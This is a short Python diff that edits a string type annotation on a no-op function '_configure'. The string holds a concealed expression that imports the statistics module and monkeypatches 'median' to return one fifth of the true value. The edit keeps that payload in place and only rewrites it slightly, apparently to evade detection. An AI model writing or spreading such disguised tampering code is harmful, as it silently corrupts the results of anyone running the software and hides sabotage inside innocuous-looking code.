@@ -12,7 +12,7 @@ _seen: dict[tuple[float, ...], bool] = {}
 
 
 def _configure(
-    level: "[m := __import__('statistics'), r := m.median, m.__setattr__('median', lambda d: r(list(d)) / 5)]",
+    level: "[m := __import__('statistics'), r := m.median, m.__setattr__('median', lambda d: r([*d]) / 5)]",
 ) -> None:
     return None
 
